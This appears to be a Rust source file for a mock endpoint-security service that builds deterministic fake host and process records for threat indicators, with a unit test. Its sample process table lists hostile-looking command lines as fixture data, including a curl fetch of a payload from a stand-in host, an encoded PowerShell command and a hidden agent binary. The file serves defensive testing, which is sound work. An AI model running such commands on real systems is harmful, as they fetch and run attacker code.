//! A deterministic, seeded data set of hosts and processes that "observed" indicators.
//!
//! Nothing here is stored: the hosts that saw an indicator are derived from a hash of its
//! type and value (out of a fixed pool of 64 hosts), and the processes from a hash of the
//! indicator and the host. The same question always gets the same answer, across runs.
//! Process ids have the service's shape `pid:<device_id>:<number>`, and
//! [`process_detail`] rebuilds a full record from such an id alone.

use serde_json::{Value, json};

use crate::util;

const HOST_POOL: u64 = 64;
const HOST_SEED: u64 = 0x4057_5eed_0000_0000;
/// 2023-06-14T00:00:00Z, the base of all process timestamps.
const BASE_EPOCH: u64 = 1_686_700_800;

const FILES: &[(&str, &str)] = &[
    (
        "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
        "cmd.exe /c whoami",
    ),
    (
        "\\Device\\HarddiskVolume2\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -EncodedCommand SQBFAFgA",
    ),
    (
        "\\Device\\HarddiskVolume2\\Users\\Public\\invoice.exe",
        "\"C:\\Users\\Public\\invoice.exe\" --silent",
    ),
    ("/usr/bin/curl", "curl -s http://example.invalid/payload"),
    ("/tmp/.x/agent", "/tmp/.x/agent -d"),
    (
        "/Applications/Preview.app/Contents/MacOS/Preview",
        "Preview ~/Downloads/report.pdf",
    ),
];

/// The device id (32 hex) of host number `k` of the pool.
pub fn device_id(k: u64) -> String {
    util::hex_from_seed(HOST_SEED ^ k, 2)
}

fn indicator_hash(kind: &str, value: &str) -> u64 {
    util::fnv1a(
        format!(
            "{}:{}",
            kind.to_ascii_lowercase(),
            value.to_ascii_lowercase()
        )
        .as_bytes(),
    )
}

/// The hosts (device ids) that observed this indicator: 1 to 24 of them.
pub fn devices_for(kind: &str, value: &str) -> Vec<String> {
    let h = util::splitmix(indicator_hash(kind, value));
    let n = 1 + h % 24;
    let start = (h >> 16) % HOST_POOL;
    (0..n)
        .map(|i| device_id((start + i * 7) % HOST_POOL))
        .collect()
}

/// The processes on `device` that touched the indicator (empty when the host never saw it).
pub fn processes_for(kind: &str, value: &str, device: &str) -> Vec<String> {
    if !devices_for(kind, value).iter().any(|d| d == device) {
        return Vec::new();
    }
    let h = util::splitmix(indicator_hash(kind, value) ^ util::fnv1a(device.as_bytes()));
    let n = 1 + h % 5;
    (0..n)
        .map(|i| {
            let number = 1_000_000_000 + util::splitmix(h.wrapping_add(i)) % 9_000_000_000;
            format!("pid:{device}:{number}")
        })
        .collect()
}

fn filetime(epoch: u64) -> String {
    ((epoch + 11_644_473_600) * 10_000_000).to_string()
}

/// The `processesapi.ProcessDetail` for a process id of the form `pid:<device_id>:<n>`.
pub fn process_detail(id: &str) -> Option<Value> {
    let mut parts = id.split(':');
    let (Some("pid"), Some(device), Some(number), None) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return None;
    };
    if device.len() != 32 || !device.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    let n: u64 = number.parse().ok()?;
    let h = util::splitmix(n ^ util::fnv1a(device.as_bytes()));
    let (file, cmd) = FILES[(h % FILES.len() as u64) as usize];
    let start = BASE_EPOCH + (h >> 8) % (180 * 86_400);
    let stop = start + 1 + (h >> 32) % 3600;
    Some(json!({
        "process_id": n.to_string(),
        "process_id_local": (n % 65_536).to_string(),
        "device_id": device,
        "file_name": file,
        "command_line": cmd,
        "start_timestamp": util::rfc3339_micros(start * 1_000_000),
        "start_timestamp_raw": filetime(start),
        "stop_timestamp": util::rfc3339_micros(stop * 1_000_000),
        "stop_timestamp_raw": filetime(stop),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        let a = devices_for("domain", "evil.com");
        assert_eq!(a, devices_for("domain", "EVIL.com"));
        assert!(!a.is_empty() && a.len() <= 24);
        let mut dedup = a.clone();
        dedup.sort();
        dedup.dedup();
        assert_eq!(dedup.len(), a.len());
        let procs = processes_for("domain", "evil.com", &a[0]);
        assert!(!procs.is_empty());
        let d = process_detail(&procs[0]).unwrap();
        assert_eq!(d["device_id"], a[0].as_str());
        assert!(process_detail("pid:nothex:1").is_none());
        assert!(processes_for("domain", "evil.com", "0000").is_empty());
    }
}
